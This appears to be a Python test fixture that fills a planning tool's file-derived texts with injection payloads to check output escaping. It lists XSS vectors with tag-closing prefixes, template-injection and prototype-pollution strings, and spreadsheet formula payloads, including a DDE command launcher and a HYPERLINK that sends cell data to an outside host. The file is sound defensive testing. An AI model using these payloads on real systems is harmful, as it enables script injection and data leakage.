"""A plan in which every text that comes from a file is hostile, and the payloads."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import fields, is_dataclass, replace
from itertools import count, product
from typing import Any

import numpy as np

from outputs.tiny import tiny_plan
from planner.scenario import Scenario
from planner.types.results import Plan

CLOSERS = (
    "", '">', "'>", "</script>", "</style>", "</title></textarea></noscript>", "-->", "]]>", "`;}", "\\'\\\"/>",
    "\u2028",
)  # fmt: skip
VECTORS = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<style>@import 'https://example.org/x.css'; * {background: url(https://example.org/x)}</style>",
    "<math><mtext><script>window.ran=1</script>",
    "<video><source onerror=window.ran=1>",
)
SPECIAL = (
    "${window.ran=1}", "`${window.ran=1}`", "{{ 7*7 }} {% raw %}", "{{constructor.constructor('window.ran=1')()}}",
    "' onmouseover='window.ran=1", '" onclick="window.ran=1', "javascript:window.ran=1", "<!--<script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;", "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "<base href=https://example.org/>", "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<link rel=stylesheet href=https://example.org/x.css>", "__proto__", "constructor", "toString",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "=cmd|'/c calc'!A0", '=HYPERLINK("https://example.org/?"&A1)', '=IMPORTXML("https://example.org","//a")',
)  # fmt: skip
PAYLOADS = tuple(closer + vector for closer, vector in product(CLOSERS, VECTORS)) + SPECIAL

# Texts that come from no file: the planner's own words, days, checksums, and the name of a reference system.
OWN = {
    "status", "level", "date", "run_id", "crs", "unit", "model", "method", "lines", "care", "versions", "seconds",
    "seasons", "season",
}  # fmt: skip

Text = Callable[[str], str]


def hostile_plan(texts: Callable[[int], str]) -> Plan:
    """The tiny plan whose n-th text of a file is `texts(n)`, and a number that keeps it apart from others."""
    numbers = count()
    known: dict[str, str] = {}

    def hostile(text: str) -> str:
        if text not in known:
            number = next(numbers)
            known[text] = f"{texts(number)} {number}"
        return known[text] if text else text

    plan = _walk(tiny_plan(), hostile)
    return replace(plan, scenario=_scenario(plan.scenario, hostile))


def _walk(value: Any, text: Text) -> Any:
    if isinstance(value, str):
        return text(value)
    if isinstance(value, tuple):
        return tuple(_walk(each, text) for each in value)
    if isinstance(value, np.ndarray) and value.dtype == object and all(isinstance(each, str) for each in value):
        return np.array([text(each) for each in value], object)
    if is_dataclass(value):
        changed = {field.name: _walk(getattr(value, field.name), text) for field in fields(value)
                   if field.name not in OWN}  # fmt: skip
        return replace(value, **changed)
    return value


def _scenario(scenario: Scenario, text: Text) -> Scenario:
    """Hostile in its title, file names and citations, and in the name of the traveller."""
    data = scenario.model_dump()
    traveller = text(scenario.reach.traveller)
    data["title"] = text(scenario.title)
    data["travellers"] = {**data["travellers"], traveller: data["travellers"]["on foot"]}
    data["reach"]["traveller"] = traveller
    for name in ("population", "elevation", "roads", "facilities", "villages"):
        data[name] |= {"file": text(f"{name}.file"), "source": text(f"{name}.source")}
    return Scenario.model_validate(data)


def texts_of(value: Any) -> Iterator[str]:
    """All texts of a plan, also those of the planner's own."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, tuple):
        for each in value:
            yield from texts_of(each)
    elif isinstance(value, np.ndarray) and value.dtype == object:
        yield from (each for each in value if isinstance(each, str))
    elif is_dataclass(value):
        for field in fields(value):
            yield from texts_of(getattr(value, field.name))
